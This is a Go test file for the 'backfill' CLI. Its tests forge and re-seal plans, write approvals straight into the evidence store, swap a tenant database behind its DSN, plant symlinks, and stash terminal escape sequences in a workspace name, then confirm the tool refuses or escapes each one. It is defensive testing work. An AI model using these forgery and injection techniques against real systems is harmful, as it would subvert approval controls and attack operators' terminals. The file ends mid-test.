package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"backfill/apply"
	"backfill/apply/plan"
	"backfill/internal/cp"
	"backfill/internal/evidence"
)

// reseal decodes a plan without its checks, lets edit change it, and seals
// and writes it back as backfill would: a forger who knows the format.
func reseal(t *testing.T, path, out string, edit func(p *plan.Plan)) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var p plan.Plan
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatal(err)
	}
	edit(&p)
	p.Seal()
	var buf bytes.Buffer
	if err := p.Encode(&buf); err != nil {
		t.Fatal(err)
	}
	if _, err := plan.ParsePlan(buf.Bytes()); err != nil {
		t.Fatalf("the forged plan does not even load, so this test shows nothing: %v", err)
	}
	if err := os.WriteFile(out, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func itemNamed(p *plan.Plan, name string) *plan.Item {
	for i := range p.Items {
		if p.Items[i].WorkspaceName == name {
			return &p.Items[i]
		}
	}
	panic("no item " + name)
}

// approveRaw records an approval straight into the store, as whoever can
// write the SQLite file could, bypassing approve's own checks.
func approveRaw(t *testing.T, planPath string) {
	t.Helper()
	b, _ := os.ReadFile(planPath)
	var p plan.Plan
	json.Unmarshal(b, &p)
	store, err := evidence.OpenExisting(context.Background(), "evidence.db")
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if err := store.Append(context.Background(), &evidence.Approval{Fingerprint: p.Fingerprint, By: "mallory", PlanAuthor: p.Author, At: time.Now(),
		// A store writer records the plan's own digests as checked.
		CheckedCatalogSHA256: p.Inputs.Catalog.SHA256, CheckedCPSHA256: p.Inputs.CP.SHA256}); err != nil {
		t.Fatal(err)
	}
}

// TestForgedResealedPlansAreRefused: a plan edited and sealed again with a
// valid fingerprint asks for writes reconciliation would not produce;
// approve, the dry run and --execute all refuse it whole, naming the item,
// and nothing is written.
func TestForgedResealedPlansAreRefused(t *testing.T) {
	f := newPlanFixture(t)
	if res := f.plan(t); res.code != 0 {
		t.Fatalf("plan: %s", res.stderr)
	}
	forgeries := []struct {
		name string
		edit func(p *plan.Plan)
		want string
		// execWant, when set, is what --execute's gate, which checks the
		// cited captures before anything is re-derived, says instead.
		execWant string
	}{
		{"another catalog template", func(p *plan.Plan) {
			it := itemNamed(p, "seo-1")
			it.Action.SetTemplate, it.Evidence.Template = "platform-agent", "platform-agent"
		}, "derives template", ""},
		{"a template in no catalog", func(p *plan.Plan) {
			it := itemNamed(p, "seo-1")
			it.Action.SetTemplate, it.Evidence.Template = "evil-agent", "evil-agent"
		}, "derives template", ""},
		{"a conflict turned into agree", func(p *plan.Plan) {
			it := itemNamed(p, "claimed-other")
			it.Verdict, it.Action = plan.Agree, &plan.Action{SetTemplate: "seo-agent"}
		}, "claimed-other", ""},
		{"a later capture cited", func(p *plan.Plan) {
			it := itemNamed(p, "seo-2-restarted")
			it.Evidence.CaptureID++
		}, "cite", ""},
		{"a stub capture's name used", func(p *plan.Plan) {
			it := itemNamed(p, "SEO Agent")
			it.Verdict, it.Action = plan.Agree, &plan.Action{SetTemplate: "seo-agent"}
			it.Evidence.Template, it.Evidence.Rule = "seo-agent", "display-name"
		}, "derives template", ""},
		{"a case variant of the name", func(p *plan.Plan) {
			it := itemNamed(p, "seo-1")
			it.Action.SetTemplate, it.Evidence.Template = "SEO-Agent", "SEO-Agent"
		}, "SEO-Agent", ""},
		{"seo-1's capture cited for another workspace", func(p *plan.Plan) {
			from, to := itemNamed(p, "seo-1"), itemNamed(p, "seo-2-restarted")
			to.Evidence.CaptureID, to.Evidence.SHA256 = from.Evidence.CaptureID, from.Evidence.SHA256
		}, "its earliest successful capture is", "is a capture of acme/"},
		{"the catalog digest changed with it", func(p *plan.Plan) {
			p.Inputs.Catalog.SHA256 = strings.Repeat("0", 64)
		}, "catalog has digest", ""},
	}
	for i, fg := range forgeries {
		path := fmt.Sprintf("forged-%d.json", i)
		reseal(t, "plan.json", path, fg.edit)
		if res := runAt(t, nil, "approve", path, "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob"); res.code != 1 || !strings.Contains(res.stderr, fg.want) {
			t.Errorf("%s: approve: exit %d, want 1 with %q\n%s", fg.name, res.code, fg.want, res.stderr)
		}
		approveRaw(t, path)
		for _, args := range [][]string{{}, {"--execute"}} {
			want := fg.want
			if len(args) > 0 && fg.execWant != "" {
				want = fg.execWant
			}
			res := runAt(t, f.env, append([]string{"apply", "--inventory", "inventory.yaml", "--plan", path}, args...)...)
			if res.code != 1 || !strings.Contains(res.stderr, "refused") || !strings.Contains(res.stderr, want) {
				t.Errorf("%s: apply %v: exit %d, want 1 refusing with %q\n%s%s", fg.name, args, res.code, want, res.stdout, res.stderr)
			}
		}
	}
	for tenant, names := range agreed {
		for _, n := range names {
			if s := f.row(t, tenant, n); s.template != "" || s.writes != 0 {
				t.Errorf("%s was written: %+v", n, s)
			}
		}
	}
	for _, n := range []string{"claimed-other", "SEO Agent"} {
		if s := f.row(t, "acme", n); s.template != "" || s.writes != 0 {
			t.Errorf("%s was written: %+v", n, s)
		}
	}
}

// TestApproveAndApplyCheckTheCPRecordsAgain: the CP claims in a plan are
// only as true as its file, so approve and apply read the records again
// (the file the plan records, or --cp) and a conflict turned into agree by
// editing its claim and re-sealing is refused, even when its author signed
// it; the real records pass. Records that cannot be read again refuse the
// plan rather than let its claims go unchecked.
func TestApproveAndApplyCheckTheCPRecordsAgain(t *testing.T) {
	f := newPlanFixture(t)
	f.planAndApprove(t)
	for _, args := range [][]string{nil, {"--cp", "cp.csv"}} {
		if res := f.apply(t, args...); res.code != 0 {
			t.Fatalf("dry run %v: %d %s%s", args, res.code, res.stdout, res.stderr)
		}
	}
	keys := t.TempDir()
	aliceKey, _ := sshKey(t, keys, "alice")
	bobKey, _ := sshKey(t, keys, "bob")
	reseal(t, "plan.json", "forged.json", func(p *plan.Plan) {
		it := itemNamed(p, "claimed-other")
		it.Verdict, it.Action = plan.Agree, &plan.Action{SetTemplate: "seo-agent"}
		it.CP.Templates = []string{"seo-agent"}
	})
	// Its author keeps the forgery signed, as an honest plan would be.
	forged, err := plan.LoadPlan("forged.json")
	if err != nil {
		t.Fatal(err)
	}
	key, _ := os.ReadFile(aliceKey)
	sig, err := apply.SignPlan(key, forged)
	if err != nil {
		t.Fatal(err)
	}
	store, err := evidence.OpenExisting(context.Background(), "evidence.db")
	if err != nil {
		t.Fatal(err)
	}
	if err := plan.Keep(context.Background(), store, forged, sig); err != nil {
		t.Fatal(err)
	}
	store.Close()
	for _, args := range [][]string{nil, {"--cp", "cp.csv"}} {
		res := runAt(t, nil, append([]string{"approve", "forged.json", "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob", "--sign-key", bobKey}, args...)...)
		if res.code != 1 || !strings.Contains(res.stderr, "is not what the CP records give") {
			t.Fatalf("approve %v of a forged claim: %d %s", args, res.code, res.stderr)
		}
	}
	approveRaw(t, "forged.json")
	for _, args := range [][]string{{}, {"--execute"}, {"--cp", "cp.csv", "--execute"}} {
		res := runAt(t, f.env, append([]string{"apply", "--inventory", "inventory.yaml", "--plan", "forged.json"}, args...)...)
		if res.code != 1 || !strings.Contains(res.stderr, "is not what the CP records give") {
			t.Fatalf("forged claim, apply %v: %d %s", args, res.code, res.stderr)
		}
	}
	if s := f.row(t, "acme", "claimed-other"); s.writes != 0 {
		t.Fatalf("claimed-other was written: %+v", s)
	}
	os.WriteFile("other.csv", []byte("tenant,workspace_id,template\nacme,,seo-agent\n"), 0o644)
	res := f.apply(t, "--cp", "other.csv")
	if res.code != 1 || !strings.Contains(res.stderr, "CP records have digest") {
		t.Fatalf("other CP records: %d %s", res.code, res.stderr)
	}
	// approve takes its inputs from the approver, never from the plan:
	// without them it is a usage error naming what the plan says.
	res = runAt(t, nil, "approve", "plan.json", "--by", "carol")
	if res.code != 2 || !strings.Contains(res.stderr, "approve needs --catalog DIR and --cp SOURCE") || !strings.Contains(res.stderr, "cp.csv") {
		t.Fatalf("approve without its inputs: %d %s", res.code, res.stderr)
	}
	// Nor from an environment someone else set up (plan reads the same
	// variables; flags read the process's environment).
	t.Setenv("BACKFILL_CP", "cp.csv")
	t.Setenv("BACKFILL_CATALOG", "catalog")
	res = runAt(t, map[string]string{"BACKFILL_CP": "cp.csv", "BACKFILL_CATALOG": "catalog"}, "approve", "plan.json", "--by", "carol")
	if res.code != 2 || !strings.Contains(res.stderr, "approve needs --catalog DIR and --cp SOURCE") {
		t.Fatalf("approve with its inputs in the environment only: %d %s", res.code, res.stderr)
	}
	os.Unsetenv("BACKFILL_CP")
	os.Unsetenv("BACKFILL_CATALOG")
	// A plan pointed at doctored records, their digest and every claim
	// from them, agrees with nothing but itself: the approver's refuse it.
	real, _ := os.ReadFile("cp.csv")
	claimed := itemNamed(must(plan.LoadPlan("plan.json")), "claimed-other").WorkspaceID
	var lines []string
	for _, l := range strings.Split(string(real), "\n") {
		if strings.Contains(l, claimed) {
			l = strings.Join(strings.Split(l, ",")[:2], ",") + ",seo-agent"
		}
		lines = append(lines, l)
	}
	writeFile(t, "doctored.csv", strings.Join(lines, "\n"))
	doctored, err := cp.Load(context.Background(), "doctored.csv", "")
	if err != nil {
		t.Fatal(err)
	}
	reseal(t, "plan.json", "repointed.json", func(p *plan.Plan) {
		p.Inputs.CP = plan.CPInput{Source: "doctored.csv", SHA256: doctored.Digest(), Claims: doctored.Len()}
		for i := range p.Items {
			if it := &p.Items[i]; it.CP != nil {
				it.CP.Templates, it.CP.Level, it.CP.Sources = doctored.For(it.Tenant, it.WorkspaceID)
			}
		}
		it := itemNamed(p, "claimed-other")
		it.Verdict, it.Action = plan.Agree, &plan.Action{SetTemplate: "seo-agent"}
	})
	res = runAt(t, nil, "approve", "repointed.json", "--by", "carol", "--cp", "cp.csv", "--catalog", "catalog")
	if res.code != 1 || !strings.Contains(res.stderr, "CP records have digest") {
		t.Fatalf("approve of a plan pointed at doctored records: %d %s", res.code, res.stderr)
	}
	// Named, approve says what it checked.
	res = runAt(t, nil, "approve", "plan.json", "--by", "carol", "--cp", "cp.csv", "--catalog", "catalog")
	if res.code != 0 || !strings.Contains(res.stdout, "checked against the catalog catalog (") || !strings.Contains(res.stdout, "and the CP records cp.csv (") {
		t.Fatalf("approve: %d %s%s", res.code, res.stdout, res.stderr)
	}
	// The records moved: apply refuses, saying how to name them; named, they pass.
	if err := os.Rename("cp.csv", "moved.csv"); err != nil {
		t.Fatal(err)
	}
	if res := f.apply(t, "--cp", "moved.csv"); res.code != 0 {
		t.Fatalf("dry run with --cp moved.csv: %d %s%s", res.code, res.stdout, res.stderr)
	}
	// The same claims in another order or format (a CP table's rows come
	// back in any order) give other sources, and pass.
	moved, _ := os.ReadFile("moved.csv")
	rows := strings.Split(strings.TrimSpace(string(moved)), "\n")
	slices.Reverse(rows[1:])
	writeFile(t, "reordered.csv", strings.Join(rows, "\n")+"\n")
	var doc strings.Builder
	for _, r := range rows[1:] {
		v := strings.Split(r, ",")
		fmt.Fprintf(&doc, "- {tenant: %q, workspace_id: %q, template: %q}\n", v[0], v[1], v[2])
	}
	writeFile(t, "converted.yaml", doc.String())
	for _, src := range []string{"reordered.csv", "converted.yaml"} {
		if res := f.apply(t, "--cp", src); res.code != 0 {
			t.Fatalf("dry run with --cp %s: %d %s%s", src, res.code, res.stdout, res.stderr)
		}
	}
}

// TestApplyRefusesADatabaseMovedBehindItsDSN: a clone made with CREATE
// DATABASE … TEMPLATE and renamed into the original's place shares the
// server and the name; its OID tells it apart, and apply, its dry run and
// rollback refuse it, naming the tenant, unless --allow-moved.
func TestApplyRefusesADatabaseMovedBehindItsDSN(t *testing.T) {
	f := newPlanFixture(t, "concierge")
	f.planAndApprove(t)
	cl := f.clusters["concierge"]
	admin := cl.DSN("postgres")
	// Swap the database behind the DSN for a clone of itself.
	execSQL(t, admin, `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'concierge' AND pid <> pg_backend_pid()`)
	execSQL(t, admin, `ALTER DATABASE concierge RENAME TO concierge_orig`)
	execSQL(t, admin, `CREATE DATABASE concierge TEMPLATE concierge_orig`)

	for _, args := range [][]string{{}, {"--execute"}} {
		res := f.apply(t, args...)
		if res.code != 3 || !strings.Contains(res.stdout, `tenant "concierge"'s DSN now reaches`) {
			t.Fatalf("apply %v: exit %d, want 3 refusing concierge\n%s%s", args, res.code, res.stdout, res.stderr)
		}
	}
	if s := f.row(t, "concierge", "org-concierge"); s.template != "" || s.writes != 0 {
		t.Fatalf("the clone was written: %+v", s)
	}
	if res := runAt(t, f.env, "apply", "--inventory", "inventory.yaml", "--plan", "plan.json", "--execute", "--allow-moved", "nope"); res.code != 2 {
		t.Fatalf("--allow-moved of an unknown tenant: %d %s", res.code, res.stderr)
	}
	res := f.apply(t, "--execute", "--allow-moved", "concierge")
	if res.code != 0 || !strings.Contains(res.stdout, "applied 1") {
		t.Fatalf("--allow-moved: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	// Rollback checks too: move it once more.
	execSQL(t, admin, `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'concierge' AND pid <> pg_backend_pid()`)
	execSQL(t, admin, `ALTER DATABASE concierge RENAME TO concierge_second`)
	execSQL(t, admin, `CREATE DATABASE concierge TEMPLATE concierge_second`)
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan.json", "--execute")
	if res.code != 3 || !strings.Contains(res.stdout, `tenant "concierge"'s DSN now reaches`) {
		t.Fatalf("rollback: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
}

// TestPlanWithADeadTenantPlansTheRest: a tenant whose database is down at
// plan time gets verdict unreachable for every workspace the evidence
// lists; the rest are planned, the plan exits 3, and applying it needs
// nothing from the dead tenant.
func TestPlanWithADeadTenantPlansTheRest(t *testing.T) {
	f := newPlanFixture(t, "nocp")
	if err := f.clusters["nocp"].Stop(); err != nil {
		t.Fatal(err)
	}
	res := f.plan(t)
	if res.code != 3 || !strings.Contains(res.stdout, "tenant nocp unreachable") {
		t.Fatalf("plan: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	p, err := plan.LoadPlan("plan.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range p.Items {
		want := f.want[it.WorkspaceName]
		if it.Tenant == "nocp" {
			want = plan.Unreachable
		}
		if it.Verdict != want {
			t.Errorf("%s/%s: %s, want %s", it.Tenant, it.WorkspaceName, it.Verdict, want)
		}
	}
	if res := runAt(t, nil, "approve", "plan.json", "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob"); res.code != 0 {
		t.Fatalf("approve: %s", res.stderr)
	}
	if res := f.apply(t, "--execute"); res.code != 0 || !strings.Contains(res.stdout, "applied 3") {
		t.Fatalf("apply: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
}

// TestPlansAreKeptAndTheUndoHandleSurvives: every plan is kept in the
// store; a second plan written over an applied plan's --out is refused
// (until --force), rollback by fingerprint prefix still works after the
// file is gone, `plans` lists both, and rolling back a plan that never
// wrote names the plan that did.
func TestPlansAreKeptAndTheUndoHandleSurvives(t *testing.T) {
	f := newPlanFixture(t)
	f.planAndApprove(t)
	if res := f.apply(t, "--execute"); res.code != 0 {
		t.Fatalf("apply: %s%s", res.stdout, res.stderr)
	}
	applied, _ := plan.LoadPlan("plan.json")
	origBytes, _ := os.ReadFile("plan.json")

	// Another plan (another author, so another fingerprint) over the
	// applied plan's file is refused, and the file is untouched.
	f.env["USER"] = "carol"
	res := f.plan(t)
	if res.code != 1 || !strings.Contains(res.stderr, "refusing to replace plan.json") || !strings.Contains(res.stderr, applied.Fingerprint) {
		t.Fatalf("second plan over --out: %d %s", res.code, res.stderr)
	}
	if now, _ := os.ReadFile("plan.json"); !bytes.Equal(now, origBytes) {
		t.Fatal("the applied plan's file was replaced")
	}
	os.WriteFile("notes.txt", []byte("not a plan"), 0o644)
	if res := f.plan(t, "--out", "notes.txt"); res.code != 1 || !strings.Contains(res.stderr, "not a plan") {
		t.Fatalf("plan over a non-plan file: %d %s", res.code, res.stderr)
	}
	if res := f.plan(t, "--out", "plan-carol.json"); res.code != 0 {
		t.Fatalf("plan elsewhere: %d %s", res.code, res.stderr)
	}
	carol, _ := plan.LoadPlan("plan-carol.json")
	if res := f.plan(t, "--out", "plan.json", "--force"); res.code != 0 {
		t.Fatalf("--force: %d %s", res.code, res.stderr)
	}

	list := runAt(t, nil, "plans")
	if list.code != 0 || !strings.Contains(list.stdout, applied.Fingerprint) || !strings.Contains(list.stdout, carol.Fingerprint) {
		t.Fatalf("plans: %d\n%s%s", list.code, list.stdout, list.stderr)
	}
	var pj plansJSON
	if err := json.Unmarshal([]byte(runAt(t, nil, "plans", "--json").stdout), &pj); err != nil || len(pj.Plans) != 2 {
		t.Fatalf("plans --json: %v %+v", err, pj)
	}
	for _, k := range pj.Plans {
		if k.Fingerprint == applied.Fingerprint && (k.Applied != 3 || len(k.ApprovedBy) != 1 || k.Writes != 3) {
			t.Errorf("applied plan listed as %+v", k)
		}
	}

	// The applied plan's file is gone; its fingerprint still shows it and
	// undoes it.
	os.Remove("plan.json")
	prefix := strings.TrimPrefix(applied.Fingerprint, "sha256:")[:12]
	if show := runAt(t, nil, "show", prefix); show.code != 0 || !strings.Contains(show.stdout, applied.Fingerprint) {
		t.Fatalf("show by prefix: %d %s%s", show.code, show.stdout, show.stderr)
	}
	// A file named like the prefix cannot stand in for the plan kept under it.
	if b, err := os.ReadFile("plan-carol.json"); err != nil || os.WriteFile(prefix, b, 0o644) != nil {
		t.Fatalf("plant %s: %v", prefix, err)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", prefix, "--execute")
	if res.code != 1 || !strings.Contains(res.stderr, "is a file holding plan "+carol.Fingerprint) {
		t.Fatalf("rollback by a prefix that names a planted file: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	os.Remove(prefix)
	// Rolling back carol's plan, which never wrote, undoes nothing the
	// operator asked for (exit 3) and names the one that did.
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan-carol.json")
	if res.code != 3 || !strings.Contains(res.stdout, "never wrote anything") || !strings.Contains(res.stdout, applied.Fingerprint) {
		t.Fatalf("rollback of a plan that never wrote: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan-carol.json", "--execute", "--json")
	var nothing nothingJSON
	if err := json.Unmarshal([]byte(res.stdout), &nothing); err != nil || res.code != 3 || nothing.Reason != "nothing-applied" ||
		len(nothing.Writers) != 1 || nothing.Writers[0].Fingerprint != applied.Fingerprint {
		t.Fatalf("rollback --json of a plan that never wrote: %d %v %+v\n%s", res.code, err, nothing, res.stdout)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", prefix, "--execute")
	if res.code != 0 || !strings.Contains(res.stdout, "rolled-back 3") {
		t.Fatalf("rollback by prefix: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	// status counts them rolled back, not skipped.
	st := runAt(t, nil, "status", "--json")
	var stDoc struct {
		Total tenantStatusJSON `json:"total"`
	}
	if err := json.Unmarshal([]byte(st.stdout), &stDoc); err != nil || stDoc.Total.RolledBack != 3 || stDoc.Total.Skipped != 0 || stDoc.Total.Applied != 0 {
		t.Fatalf("status after the rollback: %v %+v\n%s", err, stDoc.Total, st.stdout)
	}
	// Run again, it has nothing more to do: done, exit 0.
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", prefix, "--execute", "--json")
	if err := json.Unmarshal([]byte(res.stdout), &nothing); err != nil || res.code != 0 || nothing.Reason != "all-undone" {
		t.Fatalf("rollback run again: %d %v %+v\n%s%s", res.code, err, nothing, res.stdout, res.stderr)
	}
	// So does one limited to a tenant whose writes are undone; a tenant it
	// never wrote in is still nothing to roll back (exit 3).
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", prefix, "--tenant", "acme", "--execute", "--json")
	nothing = nothingJSON{}
	if err := json.Unmarshal([]byte(res.stdout), &nothing); err != nil || res.code != 0 || nothing.Reason != "all-undone" {
		t.Fatalf("rollback --tenant acme run again: %d %v %+v\n%s%s", res.code, err, nothing, res.stdout, res.stderr)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", prefix, "--tenant", "nocp", "--execute", "--json")
	nothing = nothingJSON{}
	if err := json.Unmarshal([]byte(res.stdout), &nothing); err != nil || res.code != 3 || nothing.Reason != "nothing-in-tenants" {
		t.Fatalf("rollback --tenant of a tenant the plan never wrote in: %d %v %+v\n%s%s", res.code, err, nothing, res.stdout, res.stderr)
	}
	if s := f.row(t, "acme", "seo-1"); s.template != "" {
		t.Fatalf("not rolled back: %+v", s)
	}
	if res := runAt(t, nil, "show", "00000000"); res.code != 1 || !strings.Contains(res.stderr, "no plan kept") {
		t.Fatalf("unknown prefix: %d %s", res.code, res.stderr)
	}
}

// TestEscapeSequencesReachNoOutputRaw: a workspace named with terminal
// escape sequences (and a bidirectional override) is shown escaped in
// every output of phase two, logs included.
func TestEscapeSequencesReachNoOutputRaw(t *testing.T) {
	f := newPlanFixture(t)
	t.Chdir(f.dir)
	evil := "seo-1\x1b[2J\x1b]0;pwned\x07\u202e"
	execSQL(t, f.dsns["acme"], `UPDATE workspaces SET name = $2 WHERE id = $1`, f.ids["seo-1"], evil)
	execSQL(t, f.dsns["acme"], `UPDATE workspaces SET name = $2 WHERE id = $1`, f.ids["never-captured"], "gone\x1b[31m")
	var outputs []result
	run := func(env map[string]string, args ...string) {
		t.Helper()
		res := runAt(t, env, args...)
		if res.code != 0 && res.code != 3 {
			t.Fatalf("%v: %d %s%s", args, res.code, res.stdout, res.stderr)
		}
		outputs = append(outputs, res)
	}
	run(f.env, "plan", "--inventory", "inventory.yaml", "--cp", "cp.csv", "--catalog", "catalog", "--out", "plan.json", "--report", "report.md")
	run(nil, "show", "plan.json")
	run(nil, "show", "plan.json", "--writes")
	run(nil, "--log-format", "json", "approve", "plan.json", "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob")
	run(f.env, "apply", "--inventory", "inventory.yaml", "--plan", "plan.json")
	run(f.env, "apply", "--inventory", "inventory.yaml", "--plan", "plan.json", "--execute", "--canary", "1")
	run(f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan.json")
	run(nil, "status")
	run(nil, "plans")
	run(nil, "export", "--format", "csv")
	// Last, as it captures: the audit names the workspaces it lists.
	run(f.env, "audit", "--inventory", "inventory.yaml")
	run(nil, "status")
	report, _ := os.ReadFile("report.md")
	outputs = append(outputs, result{stdout: string(report)})
	sawEscaped := false
	for i, o := range outputs {
		for _, s := range []string{o.stdout, o.stderr} {
			if strings.ContainsAny(s, "\x1b\x07\u202e") {
				t.Errorf("output %d holds a raw control character:\n%q", i, s)
			}
			sawEscaped = sawEscaped || strings.Contains(s, `seo-1\x1b[2J`)
		}
	}
	if !sawEscaped {
		t.Error("the evil name is not shown escaped anywhere: the test proves nothing")
	}
}

// TestPlanNeverWritesThroughASymlink: a symlink planted at the report's or
// the plan's path is replaced, never written through.
func TestPlanNeverWritesThroughASymlink(t *testing.T) {
	f := newPlanFixture(t)
	t.Chdir(f.dir)
	victim := filepath.Join(t.TempDir(), "victim")
	os.WriteFile(victim, []byte("precious"), 0o644)
	os.Symlink(victim, "report.md")
	if res := f.plan(t, "--out", "fresh.json"); res.code != 0 {
		t.Fatalf("plan: %d %s", res.code, res.stderr)
	}
	if b, _ := os.ReadFile(victim); string(b) != "precious" {
		t.Fatalf("the report was written through a symlink: %q", b)
	}
	if fi, err := os.Lstat("report.md"); err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("report.md: %v %v", fi, err)
	}
}

// TestApplyOutputForAnIncident: by default one line per tenant and the
// rows not done, each with its reason, a locked tenant named in them;
// --verbose adds every row; --json carries every row and the failures.
func TestApplyOutputForAnIncident(t *testing.T) {
	f := newPlanFixture(t)
	f.planAndApprove(t)
	release := lockRow(t, f.dsns["concierge"], f.ids["org-concierge"])
	res := f.apply(t, "--execute", "--lock-timeout", "200ms")
	release()
	if res.code != 3 || !strings.Contains(res.stdout, "tenant acme: applied 2") || !strings.Contains(res.stdout, "not done (1):") ||
		!strings.Contains(res.stdout, "tenant concierge failed, 1 rows not written:") || !strings.Contains(res.stdout, "lock timeout") {
		t.Fatalf("apply with a locked tenant: %d\n%s", res.code, res.stdout)
	}
	if strings.Contains(res.stdout, f.ids["seo-1"]) {
		t.Errorf("rows printed without --verbose:\n%s", res.stdout)
	}
	if v := f.apply(t, "--verbose"); !strings.Contains(v.stdout, f.ids["org-concierge"]) {
		t.Errorf("--verbose lacks rows:\n%s", v.stdout)
	}
	var doc writeReportJSON
	j := f.apply(t, "--execute", "--json")
	if err := json.Unmarshal([]byte(j.stdout), &doc); err != nil || j.code != 0 || doc.SchemaVersion != 1 || !doc.Complete || len(doc.Rows) != 3 || len(doc.Failures) != 0 {
		t.Fatalf("apply --json: %d %v %+v\n%s", j.code, err, doc, j.stdout)
	}
	for _, r := range doc.Rows {
		if r.Outcome != "applied" && r.Outcome != "already-applied" {
			t.Errorf("row %+v", r)
		}
	}
}

// TestFiltersTouchOnlyTheNamedTenants: apply and rollback with --tenant
// touch and journal only those tenants; a later run without it finishes
// the rest; --canary-tenant picks the canary by name; show filters.
func TestFiltersTouchOnlyTheNamedTenants(t *testing.T) {
	f := newPlanFixture(t)
	f.planAndApprove(t)
	if res := f.apply(t, "--execute", "--tenant", "nosuch*"); res.code != 2 || !strings.Contains(res.stderr, "matches no tenant") {
		t.Fatalf("--tenant matching nothing: %d %s", res.code, res.stderr)
	}
	res := f.apply(t, "--execute", "--canary-tenant", "concierge")
	if res.code != 0 || !strings.Contains(res.stdout, "tenant concierge: applied 1") || strings.Contains(res.stdout, "tenant acme") {
		t.Fatalf("canary concierge: %d\n%s", res.code, res.stdout)
	}
	if s := f.row(t, "acme", "seo-1"); s.writes != 0 {
		t.Fatalf("acme written by the concierge canary: %+v", s)
	}
	if n := len(journalOutcomes(t, "evidence.db", "", evidence.OpApply, apply.Applied)); n != 1 {
		t.Fatalf("%d applied entries journaled, want 1", n)
	}
	res = f.apply(t, "--execute")
	if res.code != 0 || !strings.Contains(res.stdout, "tenant acme: applied 2") || !strings.Contains(res.stdout, "tenant concierge: already-applied 1") {
		t.Fatalf("unfiltered run: %d\n%s", res.code, res.stdout)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan.json", "--execute", "--tenant", "ac*")
	if res.code != 0 || !strings.Contains(res.stdout, "tenant acme: rolled-back 2") || strings.Contains(res.stdout, "concierge") {
		t.Fatalf("rollback --tenant ac*: %d\n%s", res.code, res.stdout)
	}
	if s := f.row(t, "concierge", "org-concierge"); s.template != "platform-agent" {
		t.Fatalf("concierge rolled back: %+v", s)
	}
	res = runAt(t, f.env, "rollback", "--inventory", "inventory.yaml", "--plan", "plan.json", "--execute")
	if res.code != 0 || !strings.Contains(res.stdout, "tenant concierge: rolled-back 1") || strings.Contains(res.stdout, "tenant acme") {
		t.Fatalf("unfiltered rollback: %d\n%s", res.code, res.stdout)
	}
	show := runAt(t, nil, "show", "plan.json", "--tenant", "acme", "--verdict", "conflict")
	if show.code != 0 || !strings.Contains(show.stdout, "claimed-other") || strings.Contains(show.stdout, "orphan") {
		t.Fatalf("show filtered: %d\n%s", show.code, show.stdout)
	}
}

// TestInspectOneWorkspace: inspect shows a workspace with two captures, a
// CP claim, a plan and a journal entry; --raw prints a capture's exact
// bytes; --inventory adds the row as it is now.
func TestInspectOneWorkspace(t *testing.T) {
	seo := readLive(t, "custom-seo-agent.yaml")
	f := newPlanFixture(t)
	f.planAndApprove(t)
	if res := f.apply(t, "--execute"); res.code != 0 {
		t.Fatalf("apply: %s", res.stderr)
	}
	id := f.ids["seo-2-restarted"]
	res := runAt(t, f.env, "inspect", id, "--inventory", "inventory.yaml")
	for _, want := range []string{"workspace " + id, "listed (1):", "captures (2):", "plans (1):", "agree", "CP claims: seo-agent (tenant",
		"write: template = \"seo-agent\"", "journal (2):", "committing", "applied", `now: name "seo-2-restarted"`, `template "seo-agent"`} {
		if !strings.Contains(res.stdout, want) {
			t.Errorf("inspect lacks %q:\n%s%s", want, res.stdout, res.stderr)
		}
	}
	var doc inspectJSON
	if err := json.Unmarshal([]byte(runAt(t, nil, "inspect", id, "--json").stdout), &doc); err != nil || len(doc.Captures) != 2 || len(doc.Plans) != 1 {
		t.Fatalf("inspect --json: %v %+v", err, doc)
	}
	raw := runAt(t, nil, "inspect", id, "--raw", fmt.Sprint(doc.Captures[0].ID))
	if raw.code != 0 || raw.stdout != seo {
		t.Fatalf("--raw: %d %q", raw.code, raw.stdout)
	}
	if other := runAt(t, nil, "inspect", id, "--raw", "1"); other.code != 1 || !strings.Contains(other.stderr, "is not a capture of workspace") {
		t.Fatalf("--raw of another workspace's capture: %d %s", other.code, other.stderr)
	}
	if none := runAt(t, nil, "inspect", "00000000-0000-4000-8000-00000000dead"); none.code != 1 {
		t.Fatalf("unknown workspace: %d", none.code)
	}
}

// TestPlanTenantFilter: plan --tenant plans only the matching tenants.
func TestPlanTenantFilter(t *testing.T) {
	f := newPlanFixture(t)
	if res := f.plan(t, "--tenant", "concierge"); res.code != 0 {
		t.Fatalf("plan --tenant: %d %s", res.code, res.stderr)
	}
	p, err := plan.LoadPlan("plan.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range p.Items {
		if it.Tenant != "concierge" {
